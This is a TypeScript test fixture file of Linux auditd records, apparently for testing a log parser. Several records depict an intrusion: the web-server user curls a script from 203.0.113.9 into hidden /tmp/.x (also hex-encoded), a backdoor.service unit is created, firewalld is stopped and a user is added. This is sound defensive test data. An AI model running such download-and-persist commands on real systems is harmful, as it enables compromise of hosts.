/**
 * Test fixtures (used only by tests): Linux audit record lines as auditd writes them to
 * /var/log/audit/audit.log (RAW and ENRICHED log_format), one process start (SYSCALL, EXECVE,
 * CWD, PATH, PROCTITLE of serial 4242) and the records of logins, sudo, account and service
 * changes. Hex values are what auditd writes for strings holding blanks or NULs.
 */

const AT = 'msg=audit(1795341600.123:4242):';

export const AUDIT = {
  syscallExecve:
    `type=SYSCALL ${AT} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c2a0e0f0 a1=55d1c2a0e1a0 ` +
    'a2=55d1c2a0e2b8 a3=8 items=2 ppid=4000 pid=4321 auid=1000 uid=33 gid=33 euid=33 suid=33 fsuid=33 ' +
    'egid=33 sgid=33 fsgid=33 tty=(none) ses=4 comm="curl" exe="/usr/bin/curl" ' +
    'subj=unconfined key="susp_activity"',
  // curl -s -o /tmp/.x http://203.0.113.9/a b.sh   (the last argument holds a blank: hex)
  execve:
    `type=EXECVE ${AT} argc=5 a0="curl" a1="-s" a2="-o" a3="/tmp/.x" ` +
    'a4=687474703A2F2F3230332E302E3131332E392F6120622E7368',
  cwd: `type=CWD ${AT} cwd="/var/www/html"`,
  path:
    `type=PATH ${AT} item=0 name="/usr/bin/curl" inode=1835043 dev=fd:00 mode=0100755 ouid=0 ogid=0 ` +
    'rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
  // curl\0-s\0http://203.0.113.9/x.sh\0-o\0/tmp/.x
  proctitle: `type=PROCTITLE ${AT} proctitle=6375726C002D7300687474703A2F2F3230332E302E3131332E392F782E7368002D6F002F746D702F2E78`,
  pathCreate:
    'type=PATH msg=audit(1795341660.250:4250): item=1 name="/etc/systemd/system/backdoor.service" ' +
    'inode=2621523 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE cap_fp=0 cap_fi=0 ' +
    'cap_fe=0 cap_fver=0 cap_frootid=0',
  // name "/tmp/a b.sh": hex
  pathHex:
    'type=PATH msg=audit(1795341660.300:4251): item=0 name=2F746D702F6120622E7368 inode=131 dev=fd:00 ' +
    'mode=0100755 ouid=33 ogid=33 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0',
  userAuthFailed:
    'type=USER_AUTH msg=audit(1795341700.001:510): pid=2201 uid=0 auid=4294967295 ses=4294967295 ' +
    'subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg=\'op=PAM:authentication grantors=? acct="root" ' +
    'exe="/usr/sbin/sshd" hostname=203.0.113.50 addr=203.0.113.50 terminal=ssh res=failed\'',
  userLogin:
    'type=USER_LOGIN msg=audit(1795341700.010:512): pid=2201 uid=0 auid=1000 ses=7 ' +
    'subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg=\'op=login id=1000 exe="/usr/sbin/sshd" ' +
    "hostname=198.51.100.7 addr=198.51.100.7 terminal=/dev/pts/1 res=success'",
  // sudo systemctl restart nginx, from /home/bob
  userCmd:
    'type=USER_CMD msg=audit(1795341900.000:600): pid=3001 uid=1000 auid=1000 ses=3 subj=unconfined ' +
    'msg=\'cwd="/home/bob" cmd=73797374656D63746C2072657374617274206E67696E78 exe="/usr/bin/sudo" ' +
    "terminal=pts/0 res=success'",
  addUser:
    'type=ADD_USER msg=audit(1795342000.000:650): pid=4100 uid=0 auid=1000 ses=3 subj=unconfined ' +
    'msg=\'op=add-user acct="eve" exe="/usr/sbin/useradd" hostname=web1 addr=? terminal=pts/0 res=success\'',
  serviceStop:
    'type=SERVICE_STOP msg=audit(1795342100.000:700): pid=1 uid=0 auid=4294967295 ses=4294967295 ' +
    'subj=system_u:system_r:init_t:s0 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" ' +
    "hostname=? addr=? terminal=? res=success'",
  // ENRICHED log_format: interpreted values after \x1d (personality(0x40000): ADDR_NO_RANDOMIZE)
  enriched:
    'type=SYSCALL msg=audit(1795341800.555:9001): arch=c000003e syscall=135 success=yes exit=0 a0=40000 ' +
    'a1=0 a2=0 a3=0 items=0 ppid=1200 pid=1777 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 ' +
    'fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="setarch" exe="/usr/bin/setarch" ' +
    'subj=unconfined key=(null)\x1dARCH=x86_64 SYSCALL=personality AUID="bob" UID="bob" GID="bob" ' +
    'EUID="bob" SUID="bob" FSUID="bob" EGID="bob" SGID="bob" FSGID="bob"',
  node: 'node=web1.example.com type=CWD msg=audit(1795341600.123:4242): cwd="/root"',
  // bash -c "echo 'a b'", the third argument split in chunks (auditd's limit is larger)
  chunked:
    'type=EXECVE msg=audit(1795342200.000:800): argc=3 a0="bash" a1="-c" a2_len=10 a2[0]=6563686F20 ' +
    'a2[1]=2761206227',
  // two rule keys: susp \x01 exe
  twoKeys:
    'type=SYSCALL msg=audit(1795342300.000:900): arch=c00000b7 syscall=221 success=no exit=-13 a0=1 a1=2 ' +
    'a2=3 a3=4 items=1 ppid=1 pid=55 auid=0 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 ' +
    'tty=(none) ses=1 comm="sh" exe="/usr/bin/dash" key=7375737001657865',
} as const;

/** The same records as syslog carries them. */
export const SYSLOG_AUDIT = {
  audispd: `<85>Nov 22 10:00:00 web1 audispd: node=web1 ${AUDIT.userAuthFailed}`,
  audispSyslog: `<14>Nov 22 10:00:00 web1 audisp-syslog[1422]: ${AUDIT.execve}`,
  rfc5424: `<14>1 2026-11-22T10:00:00.200Z web1 audit - - - ${AUDIT.syscallExecve}`,
  kernel:
    '<4>Nov 22 10:00:00 web1 kernel: [ 1234.567890] audit: type=1400 audit(1795341600.123:45): ' +
    'apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=991 ' +
    'comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0',
} as const;
